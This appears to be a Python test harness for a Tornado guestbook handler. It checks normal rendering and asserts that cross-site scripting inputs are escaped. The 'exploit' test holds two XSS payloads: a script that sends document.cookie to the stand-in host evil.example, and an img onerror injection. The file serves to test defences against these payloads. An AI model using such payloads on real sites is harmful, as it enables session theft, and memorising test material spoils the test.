import html

from doubles import module


class RequestHandler:
    def __init__(self, **arguments):
        self.arguments = arguments
        self.body = ""

    def get_argument(self, name):
        return self.arguments[name]

    def set_status(self, status):
        self.status = status

    def write(self, text):
        self.body += text


module("tornado.web", RequestHandler=RequestHandler)
module("tornado.escape", xhtml_escape=html.escape)


def page(m, name, entry):
    m.GuestBookHandler(name=name, entry=entry).post()
    handler = m.GuestBookHandler()
    handler.get()
    return handler.body


def functional(m):
    assert page(m, "Ada", "Lovely view.\nBack soon!") == "<ul><li><b>Ada</b>: Lovely view.<br>Back soon!</li></ul>"


def exploit(m):
    assert "<script" not in page(m, "Eve", "<script>fetch('//evil.example/' + document.cookie)</script>")
    assert "<img" not in page(m, "<img src=x onerror=alert(1)>", "Hello")
